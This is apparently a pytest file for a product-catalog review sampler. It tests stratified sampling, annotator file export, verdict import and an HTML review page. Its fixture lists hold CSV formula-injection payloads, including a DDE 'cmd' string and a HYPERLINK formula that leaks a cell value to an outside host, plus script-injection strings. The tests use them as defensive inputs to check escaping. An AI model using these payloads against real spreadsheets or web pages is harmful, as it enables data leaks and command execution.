"""``review sample``: balanced strata, a simple random sample inside each cell, the same sample per
seed, and annotator files that hold what a person needs."""

from __future__ import annotations

import csv
import json
from collections import Counter
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.csv as pcsv
import pyarrow.parquet as pq
import pytest

from catalog_enrichment.catalog.reviews import FILE_COLUMNS, import_verdicts
from catalog_enrichment.data.images import ImagePolicy
from catalog_enrichment.errors import CatalogEnrichError
from catalog_enrichment.review.page import write_page
from catalog_enrichment.review.sample import (
    NO_CATEGORY,
    allocate,
    draw_sample,
    stratified_sample,
    water_fill,
    write_annotator_files,
)
from tests.review.conftest import WrittenCatalog, png, written_catalog


def test_water_fill_splits_evenly_and_caps_by_what_exists() -> None:
    assert water_fill(12, {"a": 100, "b": 100, "c": 100}) == {"a": 4, "b": 4, "c": 4}
    assert water_fill(12, {"a": 2, "b": 100, "c": 100}) == {"a": 2, "b": 5, "c": 5}
    assert water_fill(10, {"a": 1, "b": 2, "c": 3}) == {"a": 1, "b": 2, "c": 3}  # everything, no more
    assert sum(water_fill(11, {"a": 50, "b": 50, "c": 50}).values()) == 11


def _population() -> tuple[list[str], list[str], list[str | None]]:
    """Two attributes; values 1000 : 200 : 40 : 8 and categories 900 : 300 : 48 (skewed both ways)."""
    rng = np.random.default_rng(7)
    attribute, value, category = [], [], []
    for attr in ("color", "pattern"):
        for v, n in (("a", 1000), ("b", 200), ("c", 40), ("d", 8)):
            cats = rng.choice(["X", "Y", None], size=n, p=[0.72, 0.24, 0.04])
            attribute += [attr] * n
            value += [f"{attr}-{v}"] * n
            category += list(cats)
    return attribute, value, category


def test_allocate_spreads_a_share_evenly_and_the_rest_by_size() -> None:
    counts = {"a": 1000, "b": 200, "c": 40, "d": 8}
    assert allocate(100, counts, 1.0) == {"a": 31, "b": 31, "c": 30, "d": 8}  # water filling
    # half evenly (8 + 14 + 14 + 14), the other 50 by what is left: 986 : 186 : 26 : 0
    assert allocate(100, counts, 0.5) == {"a": 14 + 41, "b": 14 + 8, "c": 14 + 1, "d": 8}
    assert allocate(100, counts, 0.0) == {
        "a": 80,
        "b": 16,
        "c": 3,
        "d": 1,
    }  # proportional, largest remainders
    assert allocate(2000, counts, 0.5) == counts  # everything, never more


@pytest.mark.parametrize("balance", [1.0, 0.5])
def test_strata_are_balanced_over_attributes_values_and_categories(balance: float) -> None:
    attribute, value, category = _population()
    picked = stratified_sample(attribute, value, category, 200, seed=0, balance=balance)
    assert picked.size == 200 and len(set(picked.tolist())) == 200
    assert Counter(attribute[i] for i in picked) == {"color": 100, "pattern": 100}
    for attr in ("color", "pattern"):
        values = Counter(value[i] for i in picked if attribute[i] == attr)
        sizes = Counter(value[i] for i in range(len(value)) if attribute[i] == attr)
        assert values == Counter(allocate(100, dict(sizes), balance))
        # every value gets at least its even share of the balanced part, or all it has
        even = water_fill(round(balance * 100), dict(sizes))
        assert all(values[v] >= even[v] for v in sizes)
        for v, n_v in values.items():  # inside a value, its categories the same way
            cats = Counter(category[i] or NO_CATEGORY for i in picked if value[i] == v)
            available = Counter(category[i] or NO_CATEGORY for i in range(len(value)) if value[i] == v)
            assert cats == Counter({k: n for k, n in allocate(n_v, dict(available), balance).items() if n})


def test_the_same_seed_draws_the_same_sample_and_another_seed_another() -> None:
    attribute, value, category = _population()
    first = stratified_sample(attribute, value, category, 150, seed=3)
    assert np.array_equal(first, stratified_sample(attribute, value, category, 150, seed=3))
    assert not np.array_equal(first, stratified_sample(attribute, value, category, 150, seed=4))


def test_the_sample_comes_in_a_random_order_so_a_part_judged_from_the_top_is_random() -> None:
    """Ids sorted by value (500 red, then 500 blue), 50 of each drawn: the first 50 rows of the file
    hold red ones ~ Hypergeometric(100, 50, 50), mean 25, sd 2.5; outside 10-40 (6 sd) fails by
    chance with p < 1e-8, and sorted by id they would all be red."""
    value = ["red"] * 500 + ["blue"] * 500
    picked = stratified_sample(["color"] * 1000, value, ["X"] * 1000, 100, seed=0, balance=1.0)
    assert Counter(value[i] for i in picked) == {"red": 50, "blue": 50}
    assert 10 <= sum(value[i] == "red" for i in picked[:50]) <= 40


def test_inside_a_cell_every_value_is_equally_likely() -> None:
    """The audit weights a cell's judged values by cell size / sampled: that needs a simple random
    sample inside the cell. One cell of 10 values, 2 drawn per seed, 400 seeds: each value is drawn
    Binomial(400, 0.2) times, mean 80, sd 8; all 10 within 4.5 sd fails by chance with p < 1e-4."""
    attribute = ["color"] * 12
    value = ["red"] * 10 + ["blue"] * 2
    category = ["X"] * 12  # 4 of 12 drawn, balance 1: 2 blue, 2 red
    counts = Counter()
    for seed in range(400):
        picked = stratified_sample(attribute, value, category, 4, seed=seed, balance=1.0)
        counts.update(i for i in picked.tolist() if i < 10)
    assert sum(counts.values()) == 800
    assert all(44 <= counts[i] <= 116 for i in range(10)), counts


def test_a_sample_records_each_rows_stratum_and_population(written: WrittenCatalog) -> None:
    drawn = draw_sample(written.catalog, model_version="3", size=120, seed=1)
    rows = drawn.rows.to_pylist()
    assert len(rows) == 120 and drawn.population == len(written.truth)
    stored = written.catalog.keyed_rows("review_samples")
    assert stored.num_rows == 120 and set(stored["sample_id"].to_pylist()) == {drawn.sample_id}
    for r in rows:
        cell = [
            k for k in written.truth if k[1] == r["attribute"] and k[2] == r["value"]
        ]  # the value's population, every category
        assert r["value_size"] == len(cell)
        assert r["attribute_size"] == sum(1 for k in written.truth if k[1] == r["attribute"])
        assert 1 <= r["stratum_sampled"] <= r["stratum_size"] <= r["value_size"]
        assert r["model_version"] == "3" and r["run_id"] == "enrich-1"
    again = draw_sample(written.catalog, run_id="enrich-1", size=120, seed=1)
    assert again.rows.select(["product_id", "attribute", "value"]) == drawn.rows.select(
        ["product_id", "attribute", "value"]
    )


def test_a_sample_of_nothing_or_of_two_things_is_a_clear_error(written: WrittenCatalog) -> None:
    with pytest.raises(CatalogEnrichError, match="no value written by model v9"):
        draw_sample(written.catalog, model_version="9")
    with pytest.raises(CatalogEnrichError, match="no value written by another v3"):  # its v3 is not ours
        draw_sample(written.catalog, model_version="3", model_name="another")
    with pytest.raises(CatalogEnrichError, match="one of --run-id and --model-version"):
        draw_sample(written.catalog, model_version="3", run_id="enrich-1")
    with pytest.raises(CatalogEnrichError, match="at least 1"):
        draw_sample(written.catalog, model_version="3", size=0)
    assert written.catalog.keyed_rows("review_samples").num_rows == 0


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_the_annotator_file_holds_text_an_image_and_empty_verdicts(
    written: WrittenCatalog, tmp_path: Path, suffix: str
) -> None:
    drawn = draw_sample(written.catalog, model_version="3", size=40, seed=0)
    out = tmp_path / "review" / f"sample{suffix}"
    table, without_image = write_annotator_files(written.catalog, drawn, out, ImagePolicy())
    read = pcsv.read_csv(out) if suffix == ".csv" else pq.read_table(out)
    assert read.num_rows == 40 and without_image == 0
    assert set(FILE_COLUMNS) <= set(read.column_names)
    for r in table.to_pylist():
        assert r["verdict"] == "" and r["reviewer"] == "" and r["title"].startswith("product ")
        assert (out.parent / r["image"]).read_bytes().startswith(b"\x89PNG")
    with pytest.raises(CatalogEnrichError, match=r"\.csv or \.parquet"):
        write_annotator_files(written.catalog, drawn, tmp_path / "sample.xlsx", ImagePolicy())


# Merchant-controlled ids and titles that a careless export confuses or turns into live content
HOSTILE_IDS = [
    "A/1",
    "A:1",
    "x" * 80 + "1",
    "x" * 80 + "2",
    '=HYPERLINK("http://e.example","x")',
    "+1",
    "-2",
    "@3",
]
HOSTILE_TITLES = [
    '=HYPERLINK("http://e.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-1+2",
    "@SUM(1,2)",
    "'=already quoted",
    "<!--<script>document.body.innerHTML=''</script>",
    "</script><script>alert(1)</script>",
    "plain & simple > 1",
]


@pytest.fixture
def hostile(tmp_path: Path) -> WrittenCatalog:
    return written_catalog(tmp_path / "lakehouse", ids=HOSTILE_IDS, titles=HOSTILE_TITLES)


def test_each_product_gets_its_own_image_file_whatever_its_id(
    hostile: WrittenCatalog, tmp_path: Path
) -> None:
    """``A/1`` and ``A:1``, or ids alike in their first 80 characters, once shared one file: the
    reviewer saw another product's picture."""
    drawn = draw_sample(hostile.catalog, model_version="3", size=100, seed=0)
    table, _ = write_annotator_files(hostile.catalog, drawn, tmp_path / "r" / "sample.csv", ImagePolicy())
    image_of = dict(zip(table["product_id"].to_pylist(), table["image"].to_pylist(), strict=True))
    assert set(image_of) == set(HOSTILE_IDS) and len(set(image_of.values())) == len(HOSTILE_IDS)
    for i, pid in enumerate(HOSTILE_IDS):
        assert (tmp_path / "r" / image_of[pid]).read_bytes() == png(i), pid


def test_a_later_sample_beside_an_earlier_one_leaves_its_photo_as_drawn(tmp_path: Path) -> None:
    """Two samples written to one folder, the product's photo changed in between: each file is its
    own sample's photo (the earlier reviewers judged the content copied when it was drawn)."""
    from catalog_enrichment.review.sample import _image_file

    first = _image_file(png(0), tmp_path, "P1")
    second = _image_file(png(1), tmp_path, "P1")
    assert first != second and _image_file(png(0), tmp_path, "P1") == first
    assert (tmp_path.parent / first).read_bytes() == png(0) and (
        tmp_path.parent / second
    ).read_bytes() == png(1)


def test_no_csv_cell_is_a_formula_and_a_filled_file_imports_the_exact_values(
    hostile: WrittenCatalog, tmp_path: Path
) -> None:
    drawn = draw_sample(hostile.catalog, model_version="3", size=100, seed=0)
    out = tmp_path / "r" / "sample.csv"
    write_annotator_files(hostile.catalog, drawn, out, ImagePolicy())
    with out.open(newline="") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert '\'=HYPERLINK("http://e.example/?"&A1,"click")' in cells and "''=already quoted" in cells
    # the reviewer fills the file in (keeping the quotes, as a spreadsheet saving text may): imported
    # under the exact ids, values and sample of what was drawn
    sample = pcsv.read_csv(out, convert_options=pcsv.ConvertOptions(strings_can_be_null=False))
    n = sample.num_rows
    for name, value in (("verdict", "yes"), ("reviewer", "qa"), ("reviewed_at", "2026-11-02T10:00:00Z")):
        sample = sample.set_column(sample.schema.get_field_index(name), name, pa.array([value] * n))
    pcsv.write_csv(sample, tmp_path / "filled.csv")
    assert import_verdicts(hostile.catalog, tmp_path / "filled.csv").inserted == n
    stored = hostile.catalog.keyed_rows("reviews")
    assert set(stored["product_id"].to_pylist()) == set(drawn.rows["product_id"].to_pylist())


def test_ids_a_spreadsheet_would_read_as_numbers_or_dates_keep_their_text(tmp_path: Path) -> None:
    """A spreadsheet reads 00000131 as 131 and 10-12 as a date, and saves them back so: the sample's
    key cells that look like numbers are quoted as formulas are, and a filled file imports under
    the exact ids whether the spreadsheet kept the quotes or dropped them."""
    ids = ["00000131", "10-12", "1e5", ".5"]
    written = written_catalog(tmp_path / "lakehouse", ids=ids, titles=[f"product {i}" for i in ids])
    drawn = draw_sample(written.catalog, model_version="3", size=100, seed=0)
    out = tmp_path / "r" / "sample.csv"
    write_annotator_files(written.catalog, drawn, out, ImagePolicy())
    with out.open(newline="") as f:
        keys = [row[:4] for row in csv.reader(f)][1:]
    assert not [c for row in keys for c in row if c[:1].isdigit() or c[:1] == "."]
    assert {row[1] for row in keys} >= {"'00000131", "'10-12"}
    for kept in (True, False):  # a spreadsheet that keeps the ' on saving, and one that drops it
        sample = pcsv.read_csv(out, convert_options=pcsv.ConvertOptions(strings_can_be_null=False))
        if not kept:
            for name in ("sample_id", "product_id", "attribute", "value"):
                text = [v[1:] if v.startswith("'") else v for v in sample[name].to_pylist()]
                sample = sample.set_column(sample.schema.get_field_index(name), name, pa.array(text))
        n = sample.num_rows
        for name, value in (("verdict", "no"), ("reviewer", "qa"), ("reviewed_at", "2026-11-02T10:00:00Z")):
            sample = sample.set_column(sample.schema.get_field_index(name), name, pa.array([value] * n))
        pcsv.write_csv(sample, tmp_path / "filled.csv")
        import_verdicts(written.catalog, tmp_path / "filled.csv")
        stored = written.catalog.keyed_rows("reviews")
        assert set(stored["product_id"].to_pylist()) == set(drawn.rows["product_id"].to_pylist())


def test_the_review_page_embeds_merchant_text_as_data_only(hostile: WrittenCatalog, tmp_path: Path) -> None:
    drawn = draw_sample(hostile.catalog, model_version="3", size=100, seed=0)
    table, _ = write_annotator_files(hostile.catalog, drawn, tmp_path / "r" / "sample.csv", ImagePolicy())
    page = write_page(table, tmp_path / "r" / "sample.html", drawn.sample_id).read_text()
    embedded = page.split('<script type="application/json" id="rows">')[1].split("</script>")[0]
    assert not {"<", ">", "&"} & set(embedded)  # nothing in it can close or comment out the element
    titles = {r["title"] for r in json.loads(embedded)}
    assert titles == {HOSTILE_TITLES[HOSTILE_IDS.index(p)] for p in drawn.rows["product_id"].to_pylist()}


def test_two_runs_sampled_in_the_same_second_are_two_samples_and_one_drawn_twice_is_an_error(
    tmp_path: Path,
) -> None:
    import datetime as dt

    from catalog_enrichment.catalog.attributes import attributes_schema
    from catalog_enrichment.catalog.lakehouse import write_table
    from catalog_enrichment.review.sample import draw_sample

    catalog = written_catalog(tmp_path / "lake").catalog
    rows = catalog.attribute_rows()
    runs = pa.array(["night-1" if i % 2 else "night-2" for i in range(rows.num_rows)], pa.string())
    rows = rows.set_column(rows.schema.get_field_index("run_id"), "run_id", runs)
    write_table(catalog.attributes, rows.cast(attributes_schema()), mode="overwrite")
    now = dt.datetime(2026, 11, 3, 2, 15, tzinfo=dt.UTC)
    one = draw_sample(catalog, run_id="night-1", size=20, now=now)
    two = draw_sample(catalog, run_id="night-2", size=20, now=now)
    assert one.sample_id != two.sample_id and one.sample_id.startswith("review-v3-20261103T021500Z-s0-r")
    with pytest.raises(CatalogEnrichError, match="was drawn already"):
        draw_sample(catalog, run_id="night-1", size=20, now=now)
